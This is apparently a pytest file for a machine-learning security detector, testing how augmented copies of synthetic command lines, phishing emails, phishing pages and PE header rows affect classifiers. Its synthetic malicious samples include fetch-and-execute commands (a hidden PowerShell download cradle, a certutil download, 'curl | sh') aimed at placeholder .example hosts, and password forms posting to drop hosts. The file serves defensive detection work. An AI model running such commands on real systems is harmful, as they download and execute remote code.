"""Augmentation: copies that teach the threat, not the change."""

import json
from collections import Counter
from dataclasses import replace

import numpy as np
import pytest

from buckler.attacks import Attacker, attacks_on, get_attacks, get_augmentations
from buckler.dataset import Dataset
from buckler.dataset.splits import apart_from
from buckler.errors import SettingsError
from buckler.evaluation.calibration import probabilities_of
from buckler.students import Student
from buckler.tasks import get_task
from buckler.training.augmentation import augment
from buckler.training.cross_validation import StudentSpec, assign_folds
from buckler.training.fit import fit_student
from tests.support.made_up import made_up_events

MEDIA = ("url", "command-line", "message", "html", "text", "row")
_PROGRAMS = ("git pull", "npm run build", "docker ps -a", "ls -la /var/log", "make -j4 install")
_THREATS = (
    "powershell -nop -w hidden -c iex(new-object net.webclient).downloadstring('{}')",
    "certutil -urlcache -split -f {} C:\\Users\\Public\\a.exe",
    "curl -s {} | sh",
)


def command_lines(n: int) -> Dataset:
    rng = np.random.default_rng(3)
    labels = [("benign", "malicious")[i % 2] for i in range(n)]
    texts = [
        str(rng.choice(_THREATS)).format(f"http://h{rng.integers(1000)}.example/p{i}")
        if label == "malicious"
        else f"{rng.choice(_PROGRAMS)} --target t{rng.integers(1000)} --name n{i}"
        for i, label in enumerate(labels)
    ]
    task = get_task("command-line")
    return Dataset.from_texts([text.encode() for text in texts], task, labels=labels)


_SUBJECTS = ("Minutes of the meeting", "Lunch on Friday", "Release notes", "Invoice of the plumber")
_LURES = ("Verify your account", "Your mailbox is full", "Parcel on hold", "Unusual sign-in")


def mails(n: int) -> Dataset:
    rng = np.random.default_rng(4)
    texts, labels = [], []
    for i in range(n):
        phishing = bool(i % 2)
        subject = str(rng.choice(_LURES if phishing else _SUBJECTS))
        act = "confirm it within a day at" if phishing else "the notes are at"
        body = f"Hello, {subject.lower()} {rng.integers(1000)}: {act} http://h{i}.example/p{i}"
        texts.append(f"From: a@s{i}.example\nSubject: {subject} {i}\n\n{body}\n".encode())
        labels.append(("ham", "phishing", "ham", "spam")[i % 4])
    return Dataset.from_texts(texts, get_task("email"), labels=labels)


def pages(n: int) -> Dataset:
    rng = np.random.default_rng(5)
    texts, labels = [], []
    for i in range(n):
        phishing = bool(i % 2)
        title = str(rng.choice(_LURES if phishing else _SUBJECTS))
        action = f"http://drop{i}.example/x.php" if phishing else "/search"
        field = "password" if phishing else "search"
        texts.append(
            f"<html><title>{title} {rng.integers(1000)}</title><body><p>{title}</p>"
            f"<form method=post action='{action}'><input type={field} name=a{i}>"
            f"<input type=submit value=Go></form></body></html>".encode()
        )
        labels.append("phishing" if phishing else "benign")
    return Dataset.from_texts(texts, get_task("html"), labels=labels)


def headers(n: int) -> Dataset:
    rng = np.random.default_rng(6)
    names = ("CreationYear", "CheckSum", "MajorLinkerVersion", "sus_sections", "E_text", "filesize")
    task = replace(get_task("pe"), name="headers", numbers=names, max_bytes=4 * len(names))
    texts, labels = [], []
    for i in range(n):
        malware = bool(i % 2)
        year = int(rng.random() < (0.2 if malware else 0.9))
        odd = int(rng.poisson(3 if malware else 0.3))
        entropy = rng.normal(7 if malware else 6, 0.4)
        row = (year, year * int(rng.integers(1 << 20)), 9 if year else 2, odd, entropy, 1e5 + i)
        texts.append(json.dumps(dict(zip(names, row, strict=True))).encode())
        labels.append("malware" if malware else "benign")
    return Dataset.from_texts(texts, task, labels=labels)


def share_detected(student: Student, events: Dataset) -> float:
    p = probabilities_of(student.predict_logits(events.texts))
    return float((p[:, events.task.positive_indices].sum(axis=1) > 0.5).mean())


EVENTS = {
    "message": lambda: mails(600),
    "html": lambda: pages(600),
    "url": lambda: made_up_events(1200, np.random.default_rng(2)),
    "command-line": lambda: command_lines(1200),
    "row": lambda: headers(800),
}


@pytest.fixture(scope="module", params=sorted(EVENTS))
def trained(request):
    """Held-out events, and students that learned all augmentations and none."""
    events = EVENTS[request.param]()
    cut = len(events) * 3 // 4
    training, held_out = events.take(np.arange(cut)), events.take(np.arange(cut, len(events)))
    family, settings = ("trees", {}) if request.param == "row" else ("ngram", {"table_bits": 14})
    spec = StudentSpec(family, settings, folds=3)
    changes = get_augmentations(["all"], events.task.medium)
    copies = augment(training, changes, 1.0, 0)
    students = [fit_student(training, spec, additional=extra) for extra in (copies, None)]
    return held_out, students, changes


def test_an_ordinary_event_changed_in_the_same_way_is_no_detection(trained):
    held_out, (augmented, plain), changes = trained
    ordinary = held_out.take(np.flatnonzero(~held_out.is_positive))
    texts = [text.decode() for text in ordinary.raw_texts]
    for change in changes:
        attacker = Attacker(np.random.default_rng(1), texts, held_out.task.features or None)
        changed = ordinary.with_raw_texts([change(text, attacker).encode() for text in texts])
        rates = [share_detected(one.student, changed) for one in (augmented, plain)]
        assert rates[0] <= rates[1] + 0.03, change.name


@pytest.mark.parametrize("medium", MEDIA)
def test_no_augmentation_borrows_the_text_of_a_benign_event_whole(medium):
    """Each attack that hides an event among benign ones says so, and is refused."""
    hiding = {a.name for a in attacks_on(medium) if a.hides}
    assert not hiding & {a.name for a in get_augmentations(["all"], medium)}
    for name in hiding:
        with pytest.raises(SettingsError, match="hides an event among benign ones"):
            get_augmentations([name], medium)
    benign = "a rather long and quite ordinary sentence of some benign event"
    if medium in ("command-line", "html", "text"):
        attacker = Attacker(np.random.default_rng(0), [benign])
        for change in get_augmentations(["all"], medium):
            assert benign not in change("powershell -c start http://a.example/x", attacker)


@pytest.mark.parametrize("with_groups", [True, False])
def test_a_copy_never_helps_a_fold_that_holds_out_an_event_whose_text_it_borrows(with_groups):
    events = command_lines(400)
    if with_groups:
        events = events.with_groups([f"g{i % 80}" for i in range(400)])
    copies = augment(events, get_attacks(["benign-before", "benign-after"], "command-line"), 1.0, 0)
    assert copies is not None
    fold_of = assign_folds(events, 4, 0)
    for fold in range(4):
        held_out = events.take(np.flatnonzero(fold_of == fold))
        kept = copies.take(apart_from(copies, held_out))
        assert len(kept) > 20
        learned = b"\n".join(kept.raw_texts)
        assert not [text for text in held_out.raw_texts if text in learned]


def test_all_classes_are_changed_alike():
    events = command_lines(400)
    copies = augment(events, get_augmentations(["random-case"], "command-line"), 0.5, 0)
    assert copies is not None
    assert abs(copies.is_positive.mean() - events.is_positive.mean()) < 0.1


@pytest.mark.parametrize("rare", [0, 1])
def test_events_of_the_rarest_class_have_several_copies_that_share_a_weight(rare):
    events = headers(400)
    labels = np.where(np.arange(400) < 40, rare, 1 - rare).astype(np.int32)
    made = augment(
        events.with_labels(labels), get_augmentations(["like-benign"], "row"), 1.0, 0, copies=13
    )
    assert made is not None
    of_rare = Counter(name for name, row in zip(made.ids, made.labels, strict=True) if row == rare)
    others = Counter(name for name, row in zip(made.ids, made.labels, strict=True) if row != rare)
    assert len(of_rare) == 40
    assert 6 < np.mean(list(of_rare.values())) <= 13  # a copy that nothing changed is left out
    assert set(others.values()) == {1}
    assert len(set(made.raw_texts)) > 0.9 * len(made)
    shares = [1 / (of_rare | others)[name] for name in made.ids]
    assert np.allclose(made.weights, shares)


def test_classes_that_are_as_frequent_have_as_many_copies():
    labels = (np.arange(200) % 2).astype(np.int32)
    made = augment(
        headers(200).with_labels(labels),
        get_augmentations(["like-benign"], "row"),
        1.0,
        0,
        copies=3,
    )
    assert made is not None
    per_class = np.bincount(made.labels)
    assert per_class.min() > 150
    assert made.weights.sum() == pytest.approx(len(set(made.ids)))
